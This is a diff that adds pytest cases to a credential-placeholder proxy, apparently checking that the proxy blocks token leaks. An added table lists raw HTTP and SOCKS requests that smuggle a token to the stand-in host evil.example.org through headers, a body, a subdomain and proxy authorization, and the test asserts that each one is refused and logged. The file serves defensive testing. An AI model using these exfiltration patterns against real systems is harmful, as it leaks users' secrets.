@@ -95,6 +95,7 @@ def test_a_pair_with_it_is_the_key_s_place_too(credfd, api):
 def test_something_else_in_the_key_s_place_is_refused_with_the_reason(start, api):
     run, status, text = start("GET", "/it", ("Authorization: Bearer ghp_mine",))
     assert status == 403 and "placeholder" in json.loads(text)["reason"]
+    assert "send the placeholder" in json.loads(text)["hint"] and "{placeholder}" in json.loads(text)["hint"]
     [line] = run.audit(1)
     assert line["refusal"] == "place" and not [event for event in run.events() if event["event"] == "exfiltration"]
     assert api.requests == []
@@ -232,6 +233,48 @@ def test_an_env_that_names_it_without_a_shape_is_refused_with_its_line(credfd, a
 def test_a_shape_that_is_none_is_refused(credfd, api, shape, why):
     run = credfd.start(["true"], credentials=[credfd.credential("api", upstream=api.url, placeholder=shape)])
     assert run.wait() == 125 and why in run.stderr
+
+
+# Through the proxy: whatever becomes of the request, its placeholder is seen. {} is it, {own} the API's own place.
+
+STRAYS = {
+    "a field": "GET http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nX: {}\r\n\r\n",
+    "the body": "POST http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nContent-Length: 900\r\n\r\na={}&",
+    "the other scheme": "GET http://{own}/x?t={} HTTP/1.1\r\nHost: {own}\r\n\r\n",
+    "the proxy's user": "CONNECT {own} HTTP/1.1\r\nHost: {own}\r\nProxy-Authorization: Basic {pair}\r\n\r\n",
+    "a field of a tunnel": "CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\nX: {}\r\n\r\n",
+    "the host": "CONNECT {}.evil.example.org:443 HTTP/1.1\r\nHost: x\r\n\r\n",
+    "no proxy's business": "\x05\x01{}",
+}
+
+
+def test_no_refusal_hides_it(credfd, api):
+    def inside(rows, own):
+        import base64
+        import socket
+        mine, answers = os.environ["TOKEN"], []  # noqa: F821
+        host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/").split(":")  # noqa: F821
+        pair = base64.b64encode(f"u:{mine}".encode()).decode()
+        for row in rows:
+            with socket.create_connection((host, int(port))) as connection:
+                row = row.replace("{own}", own).replace("{pair}", pair).replace("{}", mine)
+                connection.sendall(row.encode("latin-1"))
+                answers.append(b"".join(iter(lambda: connection.recv(65536), b"")).decode())
+        return [answers, mine]
+
+    own = api.url.removeprefix("https://")
+    run = credfd.start_inside(inside, list(STRAYS.values()), own, extra={"egress": {"allow": []}},
+                              **with_placeholder(credfd, api))
+    answers, mine = run.result()
+    lines = run.audit(len(STRAYS))
+    strays = [event for event in run.events() if event["event"] == "exfiltration"]
+    assert len(lines) == len(strays) == len(STRAYS)
+    for name, answer, line, event in zip(STRAYS, answers, lines, strays):
+        assert answer.startswith("HTTP/1.1 403 ") and '"rule":"placeholder"' in answer, (name, answer)
+        assert (line["refusal"], line["status"]) == ("exfiltration", 403), (name, line)
+        assert event["lease"] == "api" and event["to"] == line["lease"], (name, event)
+    assert [line["lease"] for line in lines] == ["egress", "egress", "api", "api", "egress", "egress", "egress"]
+    assert mine not in json.dumps([lines, strays]) and api.connections == 0
 
 
 def test_credfd_log_shows_the_event(start, credfd):
